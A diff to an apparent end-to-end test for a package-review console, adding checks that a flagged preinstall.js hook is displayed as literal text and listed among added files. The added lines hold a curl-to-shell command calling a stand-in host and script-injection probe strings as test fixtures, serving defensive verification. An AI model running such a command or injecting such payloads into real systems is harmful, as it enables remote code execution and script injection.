@@ -164,6 +164,22 @@ try {
   check((await byTestId('decision').textContent()).includes('automatic'), 'a decision is shown before anyone decided');
   ok('the evidence shows the findings and the script diff with the preinstall line highlighted as added');
 
+  step = 'read what the hook runs, and the files it added';
+  const hookFile = page.locator('[data-testid="hook-file"][data-path="preinstall.js"]');
+  await hookFile.waitFor();
+  const hookText = await hookFile.locator('[data-testid="hook-file-text"]').textContent();
+  check(hookText.includes("exec('curl -s https://x.invalid/jsextension | sh')"), `the preinstall.js text is not shown: ${hookText}`);
+  check(hookText.includes('<script>alert(1)</script>') && hookText.includes('<img src=x onerror='),
+    `markup in the hook file is not shown as literal text: ${hookText}`);
+  const hookDom = await page.evaluate(() => ({
+    scripts: document.querySelectorAll('script').length,
+    images: document.querySelectorAll('img').length,
+  }));
+  check(hookDom.scripts === 1 && hookDom.images === 0, `markup in a hook file became elements: ${JSON.stringify(hookDom)}`);
+  const addedFiles = await byTestId('file-added').allTextContents();
+  check(addedFiles.some((t) => t.includes('preinstall.js')), `preinstall.js is not among the files added: ${addedFiles}`);
+  ok('the evidence shows preinstall.js as text and lists it among the files added since 0.7.28');
+
   if (screenshots) {
     await page.screenshot({path: path.join(screenshots, 'console-evidence.png'), fullPage: true});
   }
